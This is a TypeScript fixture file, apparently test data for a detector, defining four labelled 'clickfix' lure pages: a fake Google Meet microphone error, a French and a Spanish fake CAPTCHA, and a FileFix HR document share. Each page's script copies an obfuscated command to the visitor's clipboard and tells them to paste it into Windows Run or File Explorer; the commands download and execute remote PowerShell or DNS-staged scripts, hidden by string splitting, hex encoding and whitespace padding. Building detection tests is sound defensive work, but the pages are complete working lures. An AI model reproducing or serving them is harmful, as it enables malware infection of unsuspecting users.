import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';

// ---------- Google Meet look-alike: "microphone blocked" fix ----------
const mtHost = 'meet.google-conference-join.com';
const mtPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Meet – kxr-hwbq-tnm</title>
<link rel="icon" href="/_/img/meet.png">
<style>
body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif;height:100vh;overflow:hidden}
.top{padding:14px 20px;font-size:18px;color:#e8eaed}
.stage{display:flex;gap:40px;align-items:center;justify-content:center;height:calc(100vh - 120px)}
.vid{width:620px;height:350px;background:#3c4043;border-radius:8px;position:relative;display:flex;align-items:center;justify-content:center}
.vid .av{width:110px;height:110px;border-radius:50%;background:#5f6368;display:flex;align-items:center;justify-content:center;font-size:46px}
.ctl{position:absolute;bottom:14px;left:50%;transform:translateX(-50%);display:flex;gap:14px}.ctl span{width:48px;height:48px;border-radius:50%;background:#ea4335;display:flex;align-items:center;justify-content:center}
.join h2{font-weight:400;font-size:28px;margin:0 0 10px}.join p{color:#9aa0a6}
.join button{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:12px 26px;font-size:15px;font-weight:500;margin-right:10px;cursor:pointer}
.err{position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);width:460px;background:#fff;color:#202124;border-radius:8px;box-shadow:0 4px 30px rgba(0,0,0,.6);padding:24px;display:none}
.err h3{margin-top:0;font-weight:500}.err ol{line-height:1.9}.err button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:9px 20px}
kbd{background:#f1f3f4;border:1px solid #dadce0;border-radius:4px;padding:0 6px}
</style>
</head>
<body>
<div class="top">Google Meet</div>
<div class="stage">
 <div class="vid"><div class="av">J</div><div class="ctl"><span>&#127908;</span><span>&#127909;</span></div></div>
 <div class="join"><h2>Ready to join?</h2><p>Jason Whitfield and 3 others are in this call</p><button id="j">Join now</button><button style="background:transparent;color:#8ab4f8;border:1px solid #5f6368">Present</button></div>
</div>
<div class="err" id="e">
 <h3>&#9888; Problem with your microphone and camera</h3>
 <p>Meet can't access your microphone because of a permission error in your browser settings (error 0x80070005). Follow these steps to fix it:</p>
 <ol><li>Click <b>Try fix</b> below</li><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd> and then <kbd>Enter</kbd></li><li>Rejoin the meeting</li></ol>
 <button id="f">Try fix</button>
</div>
<script src="/_/js/k=meet.join.en.js"></script>
</body>
</html>`;
const mtJs = `(function(){
var s1='po'+'wer'+'sh'+'ell',s2=' -W Hid'+'den -c ',s3='"$r=(\\'i\\'+\\'ex\\');&$r ((New-Object Net.WebClient).DownloadString(\\'https://meet-fix-audio.com/mic/fix.ps1\\'))"';
var tail=' # Meet audio driver repair';
document.getElementById('j').onclick=function(){document.getElementById('e').style.display='block'};
document.getElementById('f').onclick=function(){navigator.clipboard.writeText(s1+s2+s3+tail).then(function(){document.getElementById('f').textContent='Fix copied – now press Win+R'})};
setTimeout(function(){document.getElementById('e').style.display='block'},3000);
})();`;

// ---------- French fake CAPTCHA on a hijacked news site ----------
const frHost = 'www.actu-regionale-bretagne.fr';
const frCmd = 'powershell -w h -c "$a=[char[]](105,101,120)-join\'\';$b=(irm \'https://verif-humain.fr-cdn.net/c\');&$a $b" # Je ne suis pas un robot - ID de vérification : 4471';
const frPage = `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Tempête Ciarán : les communes du Finistère toujours privées d'électricité – Actu Régionale</title>
<style>
body{margin:0;font-family:Georgia,serif;color:#222}
header{border-bottom:3px solid #003b7a;padding:12px 20px;font-family:Arial;font-weight:bold;font-size:24px;color:#003b7a}
article{max-width:760px;margin:20px auto;padding:0 16px;line-height:1.6;filter:blur(4px);pointer-events:none}
.ov{position:fixed;inset:0;background:rgba(255,255,255,.6);display:flex;align-items:center;justify-content:center;font-family:Arial,sans-serif}
.bx{background:#fff;border:1px solid #ddd;border-radius:8px;box-shadow:0 6px 28px rgba(0,0,0,.18);width:420px;padding:24px}
.ck{display:flex;align-items:center;gap:12px;border:1px solid #ccc;border-radius:4px;padding:14px;background:#f9f9f9;cursor:pointer}
.ck i{width:22px;height:22px;border:2px solid #999;border-radius:3px;display:block}
.st{display:none;margin-top:14px;font-size:14px;line-height:1.9;background:#eef5ff;border-radius:4px;padding:10px 14px}
kbd{background:#f3f3f3;border:1px solid #bbb;border-radius:3px;padding:0 6px}
</style>
</head>
<body>
<header>Actu Régionale</header>
<article><h1>Tempête Ciarán : les communes du Finistère toujours privées d'électricité</h1><p>Plus de 12 000 foyers restaient sans courant ce mardi matin dans le nord du département, selon Enedis, qui a mobilisé des renforts venus de toute la France.</p><p>Les équipes interviennent en priorité sur les lignes haute tension endommagées par les chutes d'arbres.</p></article>
<div class="ov"><div class="bx">
 <b>Vérification de sécurité</b>
 <p style="font-size:14px;color:#555">Afin de protéger ce site contre les robots, veuillez confirmer que vous êtes un humain.</p>
 <div class="ck" id="ck"><i id="i"></i>Je ne suis pas un robot</div>
 <div class="st" id="st">Étapes de vérification :<br>1. Appuyez sur <kbd>Windows</kbd> + <kbd>R</kbd><br>2. Appuyez sur <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Appuyez sur <kbd>Entrée</kbd> pour terminer</div>
</div></div>
<script>
(function(){var h="${Buffer.from(frCmd, 'utf8').toString('hex')}";
function d(x){var b=[];for(var i=0;i<x.length;i+=2)b.push(parseInt(x.substr(i,2),16));return new TextDecoder().decode(new Uint8Array(b))}
document.getElementById('ck').onclick=function(){navigator.clipboard.writeText(d(h));document.getElementById('i').style.background='#2e7d32';document.getElementById('st').style.display='block'};})();
</script>
</body>
</html>`;

// ---------- FileFix: paste a "path" into File Explorer's address bar ----------
const ffHost = 'hr-portal.sharefile-docs-secure.com';
const ffPath = 'C:\\\\company\\\\internal-secure\\\\filedrive\\\\HRPolicy.docx';
const ffPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Shared file – HRPolicy.docx</title>
<style>
body{margin:0;background:#f4f6f9;font-family:"Segoe UI",Arial,sans-serif;color:#1f2937}
.h{background:#fff;border-bottom:1px solid #e5e7eb;padding:14px 24px;font-weight:600}
.c{max-width:560px;margin:50px auto;background:#fff;border-radius:10px;box-shadow:0 2px 14px rgba(0,0,0,.07);padding:28px}
.f{display:flex;gap:12px;align-items:center;background:#f9fafb;border:1px solid #e5e7eb;border-radius:8px;padding:12px;margin:14px 0}.f i{width:36px;height:44px;background:#2b579a;border-radius:4px;display:block}
.path{font-family:Consolas,monospace;background:#111827;color:#e5e7eb;padding:10px 12px;border-radius:6px;font-size:13px;display:flex;justify-content:space-between;align-items:center}
.path button{background:#374151;color:#fff;border:0;border-radius:4px;padding:4px 10px}
ol{line-height:1.9;font-size:14px}kbd{background:#f3f4f6;border:1px solid #d1d5db;border-radius:4px;padding:0 6px}
.open{background:#2563eb;color:#fff;border:0;border-radius:6px;padding:11px 22px;font-size:15px;cursor:pointer}
</style>
</head>
<body>
<div class="h">Company File Share</div>
<div class="c">
 <h2 style="margin-top:0">HR has shared a file with you</h2>
 <div class="f"><i></i><div><b>HRPolicy.docx</b><br><small>Updated remote-work and bonus policy &middot; internal</small></div></div>
 <p>This document is stored on the internal company file server. To open it, access the file through File Explorer:</p>
 <div class="path"><span id="p">${ffPath.replace(/\\\\/g, '\\')}</span><button id="c">Copy</button></div>
 <ol><li>Copy the file path above</li><li>Click <b>Open File Explorer</b> and select the address bar (<kbd>Ctrl</kbd> + <kbd>L</kbd>)</li><li>Paste the path (<kbd>Ctrl</kbd> + <kbd>V</kbd>) and press <kbd>Enter</kbd></li></ol>
 <button class="open" id="o">Open File Explorer</button>
 <input type="file" id="fi" style="display:none">
</div>
<script>
(function(){var p=document.getElementById('p').textContent;
var cmd='Powershell.exe -c ping example.com'.replace('ping example.com','"iwr https://sharefile-docs-secure.com/dl/x.ps1 -UseB | iex"');
var pad=new Array(62).join(' ');
function cp(){navigator.clipboard.writeText(cmd+' # '+pad+p).catch(function(){})}
document.getElementById('c').onclick=cp;
document.getElementById('o').onclick=function(){cp();document.getElementById('fi').click()};
document.addEventListener('copy',function(e){e.preventDefault();e.clipboardData.setData('text/plain',cmd+' # '+pad+p)});})();
</script>
</body>
</html>`;

// ---------- Spanish fake CAPTCHA using an nslookup DNS stage ----------
const esHost = 'www.recetas-faciles-mama.es';
const esPage = `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Comprobando tu navegador…</title>
<link rel="stylesheet" href="/wp-content/cache/verif.css">
</head>
<body>
<div class="box">
 <div class="logo">&#128737;</div>
 <h1>Verifica que eres humano</h1>
 <p>Este sitio utiliza un servicio de seguridad para protegerse de ataques en línea. Completa la verificación para continuar.</p>
 <label class="cb"><input type="checkbox" id="c"> No soy un robot</label>
 <div id="pasos" class="pasos" hidden>
  <p><b>Pasos de verificación:</b></p>
  <p>1. Pulsa la tecla <kbd>Windows</kbd> + <kbd>R</kbd><br>2. Pega con <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Pulsa <kbd>Intro</kbd></p>
  <p class="id">ID de verificación: <span id="vid"></span></p>
 </div>
</div>
<script src="/wp-content/cache/verif.js"></script>
</body>
</html>`;
const esCss = `body{margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif;display:flex;align-items:center;justify-content:center;min-height:100vh;color:#333}
.box{background:#fff;width:430px;padding:28px;border-radius:10px;box-shadow:0 3px 16px rgba(0,0,0,.1);text-align:center}.logo{font-size:40px}.box h1{font-size:22px}
.cb{display:flex;align-items:center;gap:10px;justify-content:center;border:1px solid #ccc;border-radius:4px;padding:14px;background:#fafafa;cursor:pointer}.cb input{width:22px;height:22px}
.pasos{text-align:left;background:#fff7e6;border:1px solid #ffc069;border-radius:6px;padding:6px 16px;margin-top:14px;line-height:1.7}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:0 6px}.id{font-size:12px;color:#888}`;
const esJs = `(function(){var v=Math.floor(10000+Math.random()*89999);document.getElementById('vid').textContent=v;
var n=['cmd /c "','nslookup -q=txt ','cfg.recetas-cdn.es',' 185.121.14.9',' | findstr /v Nombre',' | findstr /v Servidor',' > %TEMP%\\\\v.cmd',' && %TEMP%\\\\v.cmd"',' :: verificacion '+v];
document.getElementById('c').addEventListener('change',function(){if(!this.checked)return;navigator.clipboard.writeText(n.join('')).catch(function(){});document.getElementById('pasos').hidden=false});})();`;

export const entries: Entry[] = [
  {
    id: 'e-cf-meet-microphone-fix',
    label: 'clickfix',
    kind: 'fix-the-error',
    url: `https://${mtHost}/kxr-hwbq-tnm?authuser=0&hs=122`,
    routes: {
      [`${mtHost}/kxr-hwbq-tnm`]: htmlRoute(mtPage),
      [`${mtHost}/_/js/k=meet.join.en.js`]: jsRoute(mtJs),
      [`${mtHost}/_/img/meet.png`]: pngRoute(0, 137, 123),
    },
  },
  {
    id: 'e-cf-verification-fr',
    label: 'clickfix',
    kind: 'fake-captcha',
    url: `https://${frHost}/finistere/tempete-ciaran-communes-privees-electricite-2291.html`,
    body: frPage,
  },
  {
    id: 'e-cf-filefix-explorer',
    label: 'clickfix',
    kind: 'filefix',
    url: 'https://t.mail-link-safe.com/ls/click?upn=hrpolicy-share',
    routes: {
      't.mail-link-safe.com/ls/click': redirectRoute(302, `https://${ffHost}/s/HRPolicy.docx`),
      [`${ffHost}/s/HRPolicy.docx`]: htmlRoute(ffPage),
    },
  },
  {
    id: 'e-cf-captcha-es-nslookup',
    label: 'clickfix',
    kind: 'fake-captcha',
    url: `https://${esHost}/tarta-de-queso-sin-horno/`,
    body: esPage,
    routes: {
      [`${esHost}/wp-content/cache/verif.css`]: { status: 200, headers: { 'content-type': 'text/css' }, body: esCss },
      [`${esHost}/wp-content/cache/verif.js`]: jsRoute(esJs),
    },
  },
];
